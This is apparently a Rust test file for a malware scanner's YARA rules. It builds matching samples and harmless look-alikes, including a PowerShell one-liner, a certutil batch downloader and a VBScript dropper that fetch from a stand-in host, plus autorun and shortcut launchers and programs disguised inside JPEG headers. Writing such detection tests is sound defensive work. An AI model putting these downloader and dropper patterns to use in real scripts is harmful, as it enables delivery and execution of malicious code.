//! Every rule of signatures/rules finds what it is meant to find, and stays silent on what only looks like it.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test that fails shall say where")]

use blanche_tests::samples::eicar;
use blanche_tests::{Format, Layout, Station, Tree, image};
use std::collections::BTreeMap;

/// The beginning of every shortcut (MS-SHLLINK 2.1), then `text` in UTF-16.
fn shortcut(text: &str) -> Vec<u8> {
    let mut file = vec![0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
    file.resize(0x4c, 0);
    file.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    file
}

/// A JPEG's beginning, then `rest`.
fn picture(rest: &[u8]) -> Vec<u8> {
    [b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0", rest].concat()
}

/// Text that is put together here, so that this source is not taken for what it describes.
fn joined(parts: &[&str]) -> Vec<u8> {
    parts.concat().into_bytes()
}

/// For each rule, content that it must find.
fn bad() -> Vec<(&'static str, Vec<u8>)> {
    let program = joined(&["MZ stub: This program cannot ", "be run in DOS mode.\r\r\n$", "PE\0\0\x4c\x01 and so on"]);
    vec![
        ("Blanche_Test_Eicar", eicar()),
        ("Blanche_Test_Marker", joined(&["BLANCHE-TEST-MARKER-", "ADE4F27C0B61"])),
        ("Autorun_Starts_Program", joined(&["[Auto", "Run]\r\nicon=a.ico\r\nOpen = tools\\setup.exe /q\r\n"])),
        (
            "Autorun_From_Recycler",
            joined(&["[auto", "run]\r\naction=x\r\nshellexecute=RECYC", "LER\\S-1-5-21\\jwgkvsq.vmx,x\r\n"]),
        ),
        ("Shortcut_Starts_Interpreter", shortcut("C:\\Windows\\System32\\cmd.exe /c start document.exe")),
        ("Shortcut_Hides_Download", shortcut("powershell.exe -w hidden -enc SQBFAFgA")),
        (
            "Script_PowerShell_Downloader",
            joined(&["$c = New-Object Net.WebClient\nI", "EX ($c.Download", "String('http://x.invalid/a'))"]),
        ),
        (
            "Script_Windows_Host_Dropper",
            joined(&[
                "Set h = CreateObject(\"MSXML2.XML",
                "HTTP\")\nSet s = CreateObject(\"ADODB.Str",
                "eam\")\n",
                "s.SaveTo",
                "File p, 2\nCreateObject(\"WScript.Sh",
                "ell\").Run p\n",
            ]),
        ),
        (
            "Script_Batch_Downloader",
            joined(&["@echo ", "off\r\ncertutil -split -url", "cache -f http://x.invalid/a a.exe\r\nstart a.exe\r\n"]),
        ),
        (
            "Office_Macro_Starts_By_Itself_And_Runs_Program",
            joined(&[
                "Attribute VB_Name = \"M\"\r\nSub Auto",
                "Open()\r\n  x = Shell",
                "(\"calc.exe\", 0)\r\nEnd Sub\r\n",
            ]),
        ),
        ("Disguise_Program_In_Picture", picture(&program)),
        ("Disguise_Html_Application_In_Picture", picture(&joined(&["<hta:appli", "cation id=a><script></script>"]))),
    ]
}

/// What an honest person carries, and what comes close to a rule.
fn good() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("autorun.inf", b"[autorun]\r\nicon=key.ico\r\nlabel=My photos\r\n".to_vec()),
        ("notes.txt", b"Open = the shop opens at nine. See setup.exe on the server.\r\n".to_vec()),
        ("letter.lnk", shortcut("C:\\Users\\agent\\Documents\\letter.odt")),
        (
            "backup.ps1",
            b"Get-ChildItem C:\\Data | Copy-Item -Destination D:\\Backup\r\nStart-Process notepad.exe\r\n".to_vec(),
        ),
        ("copy.vbs", b"Set s = CreateObject(\"WScript.Shell\")\r\nWScript.Echo s.CurrentDirectory\r\n".to_vec()),
        (
            "build.bat",
            b"@echo off\r\ncall vars.bat\r\nstart readme.txt\r\ncertutil -hashfile a.zip SHA256\r\n".to_vec(),
        ),
        (
            "macro.bas",
            b"Attribute VB_Name = \"M\"\r\nSub Total()\r\n  MsgBox Range(\"A1\").Value\r\nEnd Sub\r\n".to_vec(),
        ),
        ("photo.jpg", picture(&[0x5a; 4000])),
    ]
}

#[test]
fn each_rule_finds_its_sample_and_no_rule_finds_harmless_ones() {
    let folder = tempfile::tempdir().unwrap();
    let samples = bad().into_iter().map(|(rule, bytes)| (format!("{rule}.bin"), bytes));
    let harmless = good().into_iter().map(|(name, bytes)| (name.to_owned(), bytes));
    let tree = samples.chain(harmless).fold(Tree::new(), |tree, (name, bytes)| tree.with(name, bytes));
    let scan = Station::new(folder.path()).scan(&image(folder.path(), Format::Fat32, Layout::MbrPrimary, &tree));
    let mut hits: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for file in scan.report["findings"].as_array().unwrap() {
        let path = file["path"].as_str().unwrap().trim_start_matches('/').to_owned();
        for finding in file["findings"].as_array().unwrap().iter().filter(|finding| finding["engine"] == "yara-x") {
            hits.entry(path.clone()).or_default().push(finding["name"].as_str().unwrap().to_owned());
        }
    }
    for (rule, _) in bad() {
        let path = format!("{rule}.bin");
        assert!(hits.get(&path).is_some_and(|rules| rules.iter().any(|name| name == rule)), "{path}: {hits:?}");
    }
    for (name, _) in good() {
        assert_eq!(hits.get(name), None, "{hits:?}");
    }
}

/// A rule without a sample could be one that never matches.
#[test]
fn every_rule_has_a_sample_and_its_metadata() {
    let folder = blanche_tests::station::signatures().join("rules");
    let mut names = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "yar") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        for rule in text.split("\nrule ").skip(1) {
            let name = rule.lines().next().unwrap().trim().to_owned();
            for key in ["title = \"", "author = \"Blanche\"", "version = \"", "severity = \"", "reference = \""] {
                assert!(rule.contains(key), "{name} has no {key}");
            }
            names.push(name);
        }
    }
    names.sort();
    let mut sampled: Vec<String> = bad().into_iter().map(|(rule, _)| rule.to_owned()).collect();
    sampled.sort();
    assert_eq!(names, sampled);
}
